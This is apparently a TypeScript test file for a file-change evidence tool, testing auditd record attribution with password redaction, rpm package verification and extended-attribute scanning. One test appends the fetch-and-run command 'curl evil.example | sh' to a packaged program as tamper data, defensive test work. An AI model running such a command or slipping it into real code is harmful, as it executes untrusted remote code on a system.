/** What others know of a changed file: the audit daemon who changed it, rpm what it should be, getfattr its attributes. */

import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { appendFile, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { openArchiveReader, openArchiveWriter } from '../../archive/index.ts';
import type { RoomServices, SourceId } from '../../core/index.ts';
import { createDecoder } from '../../ingest/decode/index.ts';
import { createAsker } from './file-asker.ts';
import { createPackages } from './file-packages.ts';
import { attributesOf } from './file-scan.ts';

let folder = '';
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'asepsis-evidence-'));
});
afterEach(() => rm(folder, { recursive: true, force: true }));

/** Records as auditd 3.0 writes them for `sed -i` run by somebody who became root, and for a daemon with an absolute path. */
function auditLines(
  serial: number,
  o: { exe: string; cwd: string; name: string; auid: string; proctitle: string },
): string[] {
  const msg = `msg=audit(${(Date.now() / 1000 - 2).toFixed(3)}:${serial}):`;
  const title = Buffer.from(o.proctitle.replaceAll(' ', '\0')).toString('hex').toUpperCase();
  return [
    `type=SYSCALL ${msg} arch=c000003e syscall=82 success=yes exit=0 a0=7ffd a1=7ffe a2=0 a3=0 items=4 ppid=811 pid=${4000 + serial} auid=${o.auid} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="${o.exe.split('/').at(-1)}" exe="${o.exe}" subj=unconfined key="etc"\x1dARCH=x86_64 SYSCALL=rename AUID="kim" UID="root"`,
    `type=CWD ${msg} cwd="${o.cwd}"`,
    `type=PATH ${msg} item=0 name="${o.cwd}/" inode=131 dev=08:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0`,
    `type=PATH ${msg} item=3 name="${o.name}" inode=2049 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0`,
    `type=PROCTITLE ${msg} proctitle=${title}`,
  ];
}

test('the audit daemon\u2019s records name who changed a file, by relative and absolute names', async () => {
  const lines = [
    ...auditLines(1, { exe: '/usr/bin/vim', cwd: '/srv', name: 'app.conf', auid: '1001', proctitle: 'vim app.conf' }),
    ...auditLines(2, {
      exe: '/usr/bin/sed',
      cwd: '/etc/app',
      name: 'app.conf',
      auid: '1000',
      proctitle: 'sed -i s/a/b/ app.conf --password=hunter22',
    }),
    ...auditLines(3, {
      exe: '/usr/sbin/confd',
      cwd: '/',
      name: '/etc/other.conf',
      auid: '4294967295',
      proctitle: 'confd',
    }),
  ];
  const records = lines.map((line) => Buffer.from(line));
  let end = 0;
  const ends = Uint32Array.from(records, (record) => {
    end += record.length;
    return end;
  });
  const source = 'src_00000000000000000000000000' as SourceId;
  const block = { seq: 1, source, receivedMs: Date.now(), hint: 'line' as const, peer: '', exercise: false };
  const events = createDecoder({}).decode({ ...block, data: Buffer.concat(records), ends });
  const own = { dir: folder, streamId: 'test0000', clock: { now: () => Date.now() } };
  const writer = await openArchiveWriter({ ...own, retentionDays: 30 });
  await writer.append(events, 1);
  await writer.flush();
  const archive = await openArchiveReader(own);
  try {
    const store = { sources: { list: async () => [{ formats: { 'auditd/text': 15 } }] } };
    const asker = createAsker({ store, archive, clock: own.clock } as unknown as RoomServices);
    const found = await asker.writerOf(['/etc/app/app.conf'], '/etc/app/app.conf');
    expect(found).toMatchObject({ name: '/usr/bin/sed', pid: 4002, uid: 1000 });
    expect(found?.command).toMatch(/^sed -i s\/a\/b\/ app.conf/);
    expect(found?.command).not.toContain('hunter22');
    expect(await asker.writerOf(['/etc/other.conf'], '/etc/other.conf')).toMatchObject({
      name: '/usr/sbin/confd',
      uid: 0,
    });
    expect(await asker.writerOf(['/home/app.conf'], '/home/app.conf')).toBeNull();
  } finally {
    await archive.close();
    await writer.close();
  }
}, 20_000);

const rpm = spawnSync('rpmbuild', ['--version']).status === 0;
if (!rpm) process.stderr.write('Packages of rpm are not tried: rpmbuild is not installed.\n');

test.skipIf(!rpm)(
  'what rpm brought is an upgrade, a changed program is not, its configuration is people\u2019s',
  async () => {
    const opt = join(folder, 'opt');
    const spec = join(folder, 'tool.spec');
    await writeFile(
      spec,
      `Name: tool
Version: 1
Release: 1
Summary: x
License: x
BuildArch: noarch
%description
x
%install
mkdir -p %{buildroot}${opt}
echo "#!/bin/sh" > %{buildroot}${opt}/tool
echo "port = 1" > %{buildroot}${opt}/tool.conf
%files
${opt}/tool
%config(noreplace) ${opt}/tool.conf
`,
    );
    execFileSync('rpmbuild', ['-bb', '--define', `_topdir ${folder}/build`, spec], { stdio: 'pipe' });
    const db = join(folder, 'db');
    await mkdir(db);
    const made = join(folder, 'build', 'RPMS', 'noarch', 'tool-1-1.noarch.rpm');
    const command = ['rpm', '--dbpath', db];
    execFileSync('rpm', ['--dbpath', db, '-i', '--nodeps', '--noscripts', '--ignorearch', made], { stdio: 'pipe' });
    const tool = join(opt, 'tool');
    const packages = createPackages(join(folder, 'no-dpkg-here'), command);
    const content = await readFile(tool);
    expect(await packages.judge(tool, content)).toBe('same');
    expect(await packages.judge(tool, Buffer.concat([content, Buffer.from('curl evil.example | sh')]))).toBe('differs');
    expect(await packages.judge(join(opt, 'tool.conf'), Buffer.from('port = 2\n'))).toBe('conffile');
    await writeFile(join(opt, 'nobody'), 'x');
    expect(await packages.judge(join(opt, 'nobody'), Buffer.from('x'))).toBe('unknown');
    expect(await createPackages(join(folder, 'no-dpkg-here'), ['no-such-rpm']).judge(tool, content)).toBe('unknown');
  },
  60_000,
);

const attributes = existsSync('/usr/bin/setfattr') && existsSync('/usr/bin/getfattr');

test.skipIf(!attributes)(
  'extended attributes are seen, each change of them, and any name of a file',
  async (context) => {
    const names = ['plain', 'with blank', 'with\ttab', 'gr\u00fc\u00df', '# file: x'].map((name) => join(folder, name));
    for (const name of names) await appendFile(name, 'x');
    if (spawnSync('setfattr', ['-n', 'user.note', '-v', 'one', names[0] as string]).status !== 0) return context.skip();
    for (const name of names.slice(1, 4)) execFileSync('setfattr', ['-n', 'user.note', '-v', 'one', name]);
    const first = await attributesOf(names);
    expect([...first.keys()].sort()).toEqual(names.slice(0, 4).sort());
    expect(new Set(first.values()).size).toBe(1);
    execFileSync('setfattr', ['-n', 'user.note', '-v', 'two', names[1] as string]);
    execFileSync('setfattr', ['-x', 'user.note', names[0] as string]);
    const second = await attributesOf(names);
    expect(second.has(names[0] as string)).toBe(false);
    expect(second.get(names[1] as string)).not.toBe(first.get(names[1] as string));
    expect(second.get(names[3] as string)).toBe(first.get(names[3] as string));
  },
);
